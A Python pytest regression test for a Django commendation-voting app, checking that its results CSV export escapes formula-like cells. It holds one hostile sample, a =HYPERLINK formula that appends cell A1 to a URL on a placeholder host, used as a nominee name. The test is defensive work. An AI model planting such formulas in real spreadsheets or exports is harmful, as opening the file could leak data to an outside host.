"""The results CSV of a closed bình xét (issue #10): a cell that a spreadsheet would take for
a formula (a nomination named ``=HYPERLINK(...)``) is written inert, as the XLSX export does."""

from __future__ import annotations

import csv
import io

import pytest

from commendations.models import Nomination, VotingSession

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def test_results_csv_neutralises_formula_like_cells(client, north_central, users):
    """Reproduces: the CSV wrote a nominee's name starting with "=" raw, live in Excel."""
    session = VotingSession.objects.get(cluster=north_central, year=2022)
    nomination = Nomination.objects.filter(session=session).order_by("pk").first()
    Nomination.objects.filter(pk=nomination.pk).update(person_name=HOSTILE)
    client.force_login(users["canbo.nghean"])

    response = client.get(f"/cum/{north_central.slug}/2022/khen-thuong/phien/{session.pk}/"
                          "ket-qua.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "Hình thức, danh hiệu"
    names = [row[1] for row in rows[1:]]
    assert f"'{HOSTILE} ({nomination.unit.short_name})" in names
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))
                or cell.startswith(("\t", "\r"))]
    assert any(row[2].isdigit() for row in rows[1:])  # numbers stay numbers
